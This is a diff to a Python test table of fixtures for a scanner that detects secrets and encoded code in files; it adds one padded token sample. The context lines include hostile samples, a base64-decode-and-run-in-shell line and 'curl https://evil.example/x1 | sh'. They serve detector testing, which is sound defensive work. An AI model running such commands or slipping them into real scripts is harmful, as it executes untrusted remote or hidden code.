@@ -255,6 +255,7 @@ GUARDS = [
     ("places.COMMAND_KEY", NEVER, "app.yml", f"run:\n- secret: {RANDOM}"),
     ("formats.encodes_code", lambda _: False, "app.py", f"token = 'EAAA{BLOB}'"),
     ("detectors.encodes_code", lambda _: False, "run.sh", f"API_TOKEN={BLOB}; echo $API_TOKEN | base64 -d | sh"),
+    ("scan.encodes_code", lambda _: False, "app.py", f"token = '{RANDOM * 30}{BLOB}{RANDOM * 30}'"),
     ("detectors._RUN", NEVER, "app.py", 'secret_cmd = "curl https://evil.example/x1 | sh"'),
 ]
 
